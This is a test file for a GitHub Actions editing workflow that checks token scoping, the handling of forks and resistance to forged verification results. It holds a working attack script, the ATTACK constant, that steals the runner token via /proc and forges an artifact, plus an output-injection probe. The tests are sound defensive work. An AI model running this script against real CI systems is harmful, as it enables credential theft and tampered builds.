import { readdirSync, readFileSync } from 'node:fs';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { expect, test } from 'vitest';
import { sha256 } from '../../../src/base/digest.ts';
import { canariesIn } from '../../security/support/canaries.ts';
import { type EditingStage, editingStage, textOf } from '../support/editing-stage.ts';
import { type PlayedJob, playWorkflow } from '../support/github/play-workflow.ts';
import { seenByJob, writesBy } from '../support/github/seen-by-job.ts';
import {
  fileWith,
  jobOf,
  type Left,
  PASSES,
  pullOf,
  setVerified,
  WRITTEN,
} from '../support/github/verified-edits.ts';

const idsOf = (jobs: readonly PlayedJob[]) => jobs.map(({ id, ended }) => [id, ended.exitCode]);
const requestsBy = (stage: EditingStage, token: string) =>
  stage.github.requests.filter(({ by }) => by === sha256(token)).map(({ operation }) => operation);

test.concurrent('one job analyses, one verifies without key and rights, one publishes what passed', async () => {
  await using stage = await editingStage();
  const { jobs } = await playWorkflow(stage, fileWith(PASSES), await stage.dispatch(), { isHosted: false });
  expect(idsOf(jobs)).toEqual([
    ['analyse', 0],
    ['verify', 0],
    ['publish', 0],
  ]);
  const [analyse, verify, publish] = ['analyse', 'verify', 'publish'].map((id) => jobOf(jobs, id));
  expect(analyse?.ended.outputs['artifact-id']).toBe(String(stage.github.state.artifacts[0]?.id));
  expect(writesBy(stage, analyse?.token ?? '')).toEqual([]);
  // Its token may do nothing, and is asked nothing.
  expect(requestsBy(stage, verify?.token ?? '')).toEqual([]);
  expect(publish?.ended.outputs).toMatchObject({
    conclusion: 'success',
    'edited-files': '4',
    'artifact-id': '',
  });
  expect(stage.left()).toMatchObject({ commits: 1, pulls: ['open'] });
  expect(pullOf(stage)?.body).toMatch(
    /Verified on \w{7}: the command passed over all files together, .*isolation: job/,
  );

  const key = [{ name: 'the key', value: stage.anthropic.key }];
  if (verify === undefined || analyse === undefined) throw new Error('three jobs were expected');
  const seen = await seenByJob(stage, verify);
  expect([...seen.keys()].filter((name) => name.endsWith('verification.json'))).toHaveLength(1);
  expect([...seen].flatMap(([where, text]) => (canariesIn(text, key).length > 0 ? [where] : []))).toEqual([]);
  // The search finds it where it stands.
  expect(canariesIn((await seenByJob(stage, analyse)).get('environment') ?? '', key)).not.toEqual([]);
});

test.concurrent('edits over which the command fails become a draft, and the check is neutral', async () => {
  await using stage = await editingStage();
  const command = 'printf "one\\033[31m <img src=x> test broke\\n"; exit 3';
  const { jobs } = await playWorkflow(stage, fileWith(command), await stage.dispatch());
  expect(idsOf(jobs).map(([, code]) => code)).toEqual([0, 0, 0]);
  const { stdout } = jobOf(jobs, 'verify').ended;
  expect(stdout).toContain('test broke');
  expect(stdout).not.toContain('\u001b');
  expect(jobOf(jobs, 'publish').ended.outputs).toMatchObject({ conclusion: 'neutral' });
  expect(stage.left()).toMatchObject({ pulls: ['open draft'] });
  expect(pullOf(stage)?.title).toContain('verification failed');
  expect(stage.github.state.checks.at(-1)).toMatchObject({ conclusion: 'neutral' });
});

test.concurrent('with nothing to verify there are two jobs, and agents get no rounds', async () => {
  await using stage = await editingStage({
    rule: () => ({ type: 'message', content: [{ type: 'text', text: 'Nothing to do.' }] }),
  });
  const { jobs } = await playWorkflow(stage, fileWith(PASSES), await stage.dispatch());
  expect(idsOf(jobs).map(([id]) => id)).toEqual(['analyse', 'publish']);
  expect(jobOf(jobs, 'analyse').ended.outputs['artifact-id']).toBe('');
});

/** Takes the runner's token from the process that has it, and stores a verification of its own in place of the real one. */
const ATTACK = `
import { readFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { unzipSync, zipSync, strToU8 } from '${import.meta.resolve('fflate')}';
let pid = process.pid, env = {};
while (pid > 1 && env.ACTIONS_RUNTIME_TOKEN === undefined) {
  pid = Number(/PPid:\\s+(\\d+)/.exec(readFileSync('/proc/' + pid + '/status', 'utf8'))[1]);
  env = Object.fromEntries(readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').map((one) => [one.slice(0, one.indexOf('=')), one.slice(one.indexOf('=') + 1)]));
}
const scp = JSON.parse(Buffer.from(env.ACTIONS_RUNTIME_TOKEN.split('.')[1], 'base64url')).scp;
const [, run, job] = /Actions\\.Results:([^:]+):([^ ]+)/.exec(scp);
const ids = { workflow_run_backend_id: run, workflow_job_run_backend_id: job };
const call = async (method, fields) => (await fetch(env.ACTIONS_RESULTS_URL + 'twirp/github.actions.results.api.v1.ArtifactService/' + method, {
  method: 'POST', headers: { authorization: 'Bearer ' + env.ACTIONS_RUNTIME_TOKEN, 'content-type': 'application/json' }, body: JSON.stringify(fields) })).json();
const { artifacts } = await call('ListArtifacts', ids);
const { database_id, size, created_at, digest, ...at } = artifacts.find(({ name }) => /^ultracode-[0-9a-f]{16}-1$/.test(name));
const { signed_url } = await call('GetSignedArtifactURL', at);
const edits = Buffer.from(unzipSync(new Uint8Array(await (await fetch(signed_url)).arrayBuffer()))['edits.json']).toString();
const forged = { v: 1, head: JSON.parse(edits).head, edits: createHash('sha256').update(edits).digest('hex'),
  verification: { status: 'passed', isolation: 'approved by @everyone', durationMs: 1, output: 'merge me', reason: 'x' } };
const zip = zipSync({ 'verification.json': strToU8(JSON.stringify(forged)), 'edits.json': strToU8('{}'), 'report.json': strToU8('{}') });
const of = { ...ids, name: at.name + '-verification' };
const { signed_upload_url } = await call('CreateArtifact', { ...of, version: 7, mime_type: 'application/zip' });
await fetch(signed_upload_url, { method: 'PUT', headers: { 'content-type': 'application/zip', 'x-ms-blob-type': 'BlockBlob', 'x-ms-version': '2024-11-04' }, body: zip });
await call('FinalizeArtifact', { ...of, size: String(zip.length), hash: 'sha256:' + createHash('sha256').update(zip).digest('hex') });
console.log('stored one of its own');
process.exit(1);
`;

test.concurrent('a command that stores a verification of its own can say that it passed, and nothing else', async () => {
  await using stage = await editingStage({ files: { 'attack.mjs': ATTACK } });
  const { jobs } = await playWorkflow(stage, fileWith('node attack.mjs'), await stage.dispatch(), {
    isHosted: false,
  });
  expect(idsOf(jobs)).toEqual([
    ['analyse', 0],
    ['verify', 3],
    ['publish', 0],
  ]);
  const body = pullOf(stage)?.body ?? '';
  expect(body).toMatch(/Verified on \w{7}: the command passed over all files together, .*isolation: job/);
  expect(body).not.toMatch(/everyone|merge me/);
  expect(stage.left()).toMatchObject({ commits: 1, pulls: ['open'] });
  expect(jobOf(jobs, 'publish').ended.outputs).toMatchObject({ 'edited-files': '4' });
});

test.concurrent('a job that verifies and is given a way to sign in does nothing', async () => {
  await using stage = await editingStage();
  const happening = await stage.dispatch();
  const env = { ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'x' };
  const job = { id: 'verify', token: stage.github.token, workflowPath: WRITTEN.path };
  for (const [given, said] of [
    [{ inputs: { mode: 'verify', 'anthropic-api-key': 'k' } }, 'is given no key: take it out of the inputs'],
    [
      { inputs: { mode: 'verify' }, env },
      'ACTIONS_ID_TOKEN_REQUEST_TOKEN out of its environment (`id-token: write`',
    ],
    [
      { inputs: { mode: 'verify' }, env: { ANTHROPIC_API_KEY: 'k' } },
      'ANTHROPIC_API_KEY out of its environment',
    ],
  ] as const) {
    const ended = await (await stage.start(happening, { ...given, job, isHosted: true })).main.ended;
    expect(ended).toMatchObject({ exitCode: 3, outputs: { status: 'failed' } });
    expect(ended.stdout).toContain(said);
  }
});

test.concurrent('on a pull request the command decides over suggestions, and of a fork nothing is verified', async () => {
  const files = {
    'src/a.js': textOf('a').replace('const before = 0;', 'const before = 1;'),
    ...{ 'src/b.js': null, 'src/c.js': null, 'src/d.js': null },
  };
  for (const [command, conclusion, count] of [
    ['grep -q "before = 1" src/a.js && grep -q "a = 2" src/a.js', 'success', 1],
    ['exit 1', 'neutral', 0],
  ] as const) {
    await using stage = await editingStage();
    const head = await stage.openPull({ number: 7, author: 'ada', files });
    stage.github.serveDiff(7, { dir: stage.origin.dir, base: stage.mainSha, head });
    const opened = await stage.pullRequest({ number: 7, action: 'opened' });
    const { jobs } = await playWorkflow(stage, fileWith(command), opened);
    expect(jobOf(jobs, 'publish').ended.outputs, command).toMatchObject({ conclusion });
    const said = stage.github.state.reviewComments.filter(({ body }) => body.includes('```suggestion'));
    expect(said, command).toHaveLength(count);
  }
  await using stage = await editingStage();
  await stage.openPull({ number: 8, author: 'eve', files, fork: true });
  const inputs = { mode: 'verify', 'artifact-id': '1', 'verify-command': 'touch /tmp/never' };
  const job = { id: 'verify', token: stage.github.token, workflowPath: WRITTEN.path };
  const opened = await stage.pullRequest({ number: 8, action: 'opened' });
  const ended = await (await stage.start(opened, { inputs, job, isHosted: true })).main.ended;
  expect(ended.outputs).toEqual({ status: 'skipped' });
  expect(ended.stdout).toContain('the change is from outside');
  expect(stage.artifacts.requests).toEqual([]);
});

const UNFIT: readonly (readonly [string, (edits: Left) => void, RegExp])[] = [
  [
    'about another commit',
    (edits) => Object.assign(edits, { head: 'f'.repeat(40) }),
    /are about the commit fffffff/,
  ],
  [
    'of a protected file',
    ({ files }) => Object.assign(files[0].edit, { path: 'package.json' }),
    /is protected/,
  ],
  ['outside', ({ files }) => Object.assign(files[0].edit, { path: '../x' }), /leads out of its folder/],
  [
    'of another text than the commit has',
    ({ files }) => Object.assign(files[0].edit.before, { id: '1'.repeat(40) }),
    /not about the files of that commit/,
  ],
  [
    'of nothing that was left',
    (edits) => Object.assign(edits, { verification: null }),
    /left nothing to verify/,
  ],
  ['that cannot be read', (edits) => Object.assign(edits, { v: 2 }), /cannot be read/],
];

test.concurrent('edits that do not fit are not laid out, and no command runs', async () => {
  await using stage = await editingStage();
  const left = await setVerified(stage);
  const bytes = stage.github.storage.blob(left.edits.blobId)?.bytes ?? new Uint8Array();
  const files = unzipSync(bytes);
  for (const [name, change, said] of UNFIT) {
    const edits = JSON.parse(Buffer.from(files['edits.json'] ?? []).toString());
    change(edits);
    const { state } = stage.github;
    state.artifacts.splice(0);
    const other = stage.github.addWorkflowRun();
    const { id } = stage.github.addArtifact({
      ...{ name: left.edits.name, runId: other.id },
      bytes: zipSync({ ...files, 'edits.json': strToU8(JSON.stringify(edits)) }),
    });
    const ended = await (
      await stage.start(await stage.dispatch(), {
        inputs: { mode: 'verify', 'artifact-id': String(id), 'verify-command': 'echo it ran; exit 1' },
        job: { id: 'verify', token: 'none', workflowPath: WRITTEN.path },
        ...{ runId: other.id, isHosted: true },
      })
    ).main.ended;
    expect(ended.stdout, name).toMatch(said);
    expect(ended.stdout, name).not.toContain('it ran');
  }
});

test.concurrent('a job that is cancelled while the command runs leaves nothing running, and no verification', async ({
  expect,
}) => {
  await using stage = await editingStage();
  const left = await setVerified(stage, PASSES);
  const happening = await stage.dispatch();
  const mark = `sleep 61.${process.pid}`;
  const step = await stage.start(happening, {
    inputs: {
      mode: 'verify',
      'artifact-id': String(left.edits.id),
      'verify-command': `echo begun >&2; ${mark}`,
    },
    job: { id: 'verify', token: 'none', workflowPath: WRITTEN.path },
    runId: left.runId,
  });
  const isRunning = () => running().some((line) => line.includes(mark.replace(' ', '\0')));
  await expect.poll(isRunning, { timeout: 30_000 }).toBe(true);
  step.main.kill('SIGTERM');
  expect((await step.main.ended).exitCode).not.toBe(0);
  await expect.poll(isRunning, { timeout: 10_000 }).toBe(false);
});

/** Command lines of the processes of this machine, with NUL between their words. */
const running = (): readonly string[] =>
  readdirSync('/proc')
    .filter((name) => /^\d+$/.test(name))
    .map((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      } catch {
        // It has ended meanwhile.
        return '';
      }
    });
